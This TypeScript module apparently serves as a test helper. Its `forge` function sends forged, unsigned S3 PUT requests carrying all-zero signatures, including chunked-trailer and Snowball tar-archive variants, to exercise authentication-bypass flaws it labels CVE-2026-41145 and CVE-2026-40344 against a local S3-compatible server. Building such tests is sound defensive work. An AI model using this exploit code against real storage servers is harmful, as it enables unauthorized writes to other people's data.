import { request } from "node:http";
import { crc32 } from "node:zlib";

/** What a server answered. `code` is S3's error code, empty where there is none. */
export interface Reply {
  readonly status: number;
  readonly code: string;
}

/** What a forged request names: nothing of it is secret. */
export interface Target {
  /** `127.0.0.1:PORT` */
  readonly endpoint: string;
  readonly accessKey: string;
  readonly bucket: string;
  readonly key: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly query?: Readonly<Record<string, string>>;
  /** Whether the false signature claims to cover all headers or `host` alone. */
  readonly claims?: "everything" | "host";
}

/** The kinds: what is written, and whether the name stands in the query or in a header with a false signature. */
export const KINDS = ["put", "part", "snowball", "put-header", "part-header", "snowball-header"] as const;
export type Kind = (typeof KINDS)[number];

const TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER";
const FORGED = "forged\n";

/** `20260916T000000Z` */
function stamp(): string {
  return new Date().toISOString().replace(/[-:]|\.\d+/g, "");
}

/**
 * Sends a write that names an access key and proves nothing (CVE-2026-41145, CVE-2026-40344). For `part`, `query` names
 * `uploadId` and `partNumber`; an archive's one file has the target's key.
 */
export function forge(kind: Kind, target: Target): Promise<Reply> {
  const date = stamp();
  const credential = `${target.accessKey}/${date.slice(0, 8)}/us-east-1/s3/aws4_request`;
  const inHeader = kind.endsWith("-header");
  const snowball = kind.startsWith("snowball");
  const headers: Record<string, string> = {
    "x-amz-content-sha256": TRAILER,
    "x-amz-date": date,
    ...(snowball
      ? { "x-amz-meta-snowball-auto-extract": "true" }
      : { "x-amz-trailer": "x-amz-checksum-crc32", "x-amz-decoded-content-length": `${FORGED.length}` }),
    ...target.headers,
  };
  const names = target.claims === "host" ? [] : Object.keys(headers);
  const signed = ["host", ...names].sort().join(";");
  if (inHeader)
    headers.authorization = `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=${signed}, Signature=${"0".repeat(64)}`;
  const named = { "X-Amz-Credential": credential, "X-Amz-SignedHeaders": signed };
  const query = { ...(!inHeader && named), ...target.query };
  const path = `/${target.bucket}/${encodeURIComponent(snowball ? "any.tar" : target.key)}?${new URLSearchParams(query)}`;
  return send(target.endpoint, "PUT", path, headers, snowball ? archive(target.key, FORGED) : chunked(FORGED));
}

/** One request as it is: nothing is added or signed. */
export function send(
  endpoint: string,
  method: string,
  path: string,
  headers: Readonly<Record<string, string>>,
  body: string | Buffer = "",
): Promise<Reply> {
  const [host, port] = endpoint.split(":");
  return new Promise((resolve, reject) => {
    const sent = request({
      host,
      port,
      method,
      path,
      headers: { "content-length": Buffer.byteLength(body), ...headers },
    });
    sent.once("error", reject);
    sent.once("response", async (response) => {
      let text = "";
      for await (const part of response) text += part;
      resolve({ status: response.statusCode ?? 0, code: /<Code>(\w+)</.exec(text)?.[1] ?? "" });
    });
    sent.end(body);
  });
}

/** A body in one chunk with a checksum behind it, as SDKs send it over TLS. */
function chunked(body: string): string {
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return `${body.length.toString(16)}\r\n${body}\r\n0\r\nx-amz-checksum-crc32:${sum.toString("base64")}\r\n\r\n`;
}

const BLOCK = 512;

/**
 * A tar archive of one file.
 * @param records PAX records of the file, in which an archive for Snowball may bring metadata along
 */
export function archive(name: string, body: string, records: Readonly<Record<string, string>> = {}): Buffer {
  const pax = Object.entries(records)
    .map(([key, value]) => paxRecord(key, value))
    .join("");
  const parts = [...(pax === "" ? [] : [entry("pax", pax, "x")]), entry(name, body, "0"), Buffer.alloc(2 * BLOCK)];
  return Buffer.concat(parts);
}

/** `LENGTH KEY=VALUE\n`, whose length counts itself. */
function paxRecord(key: string, value: string): string {
  const rest = ` ${key}=${value}\n`;
  const length = rest.length + `${rest.length}`.length;
  return `${length + (`${length}`.length > `${rest.length}`.length ? 1 : 0)}${rest}`;
}

function entry(name: string, body: string, type: string): Buffer {
  const header = Buffer.alloc(BLOCK);
  header.write(name, 0);
  header.write("0000644\0", 100);
  header.write(`${body.length.toString(8).padStart(11, "0")}\0`, 124);
  header.write(
    `${Math.floor(Date.now() / 1000)
      .toString(8)
      .padStart(11, "0")}\0`,
    136,
  );
  header.write("        ", 148);
  header.write(type, 156);
  header.write("ustar\0" + "00", 257);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
  const padded = Buffer.alloc(Math.ceil(body.length / BLOCK) * BLOCK);
  padded.write(body);
  return Buffer.concat([header, padded]);
}
